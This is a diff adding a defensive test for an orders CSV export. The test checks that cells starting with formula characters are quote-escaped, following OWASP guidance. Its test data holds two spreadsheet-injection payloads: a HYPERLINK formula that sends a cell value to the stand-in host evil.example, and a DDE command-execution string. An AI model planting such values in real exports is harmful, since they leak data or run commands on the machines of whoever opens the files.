@@ -578,4 +578,28 @@ describe('reading orders', () => {
       (await call(api.url('orders-csv'), { method: 'POST', token: basket.token, json: { ids: [] } })).status,
     ).toBe(400)
   })
+
+  it('exports no spreadsheet formula: text starting with = + - @ is quoted after a quote mark (OWASP)', async () => {
+    const sku = skus[2]!
+    const formula = '=HYPERLINK("http://evil.example/?d="&A2,"Invoice")'
+    await api.database.db
+      .update(products)
+      .set({ names: { en_US: "-2+3+cmd|' /C calc'!A0" } })
+      .where(eq(products.sku, sku))
+    const basket = await readyGuestBasket(api, [{ sku, quantity: 1 }], { matrix: EUR })
+    await pay(basket, 'INVOICE')
+    const placed = (await order(basket.token, basket.id)).json.data
+    // A cost center is named by its manager: the order keeps what the basket named.
+    await api.database.db.update(orders).set({ costCenter: formula }).where(eq(orders.id, placed.id))
+    const response = await fetch(api.url('orders-csv', EUR), {
+      method: 'POST',
+      headers: { 'content-type': 'application/json', 'authentication-token': basket.token },
+      body: JSON.stringify({ ids: [placed.id] }),
+    })
+    const [, line] = (await response.text()).split('\r\n')
+    expect(line).toContain(`,"'-2+3+cmd|' /C calc'!A0",1,`)
+    expect(line!.endsWith(`,EUR,"'${formula.replaceAll('"', '""')}"`)).toBe(true)
+    // Amounts stay numbers.
+    expect(line).toMatch(/,1,\d+\.\d{2},\d+\.\d{2},\d+\.\d{2},\d+\.\d{2},EUR,/)
+  })
 })
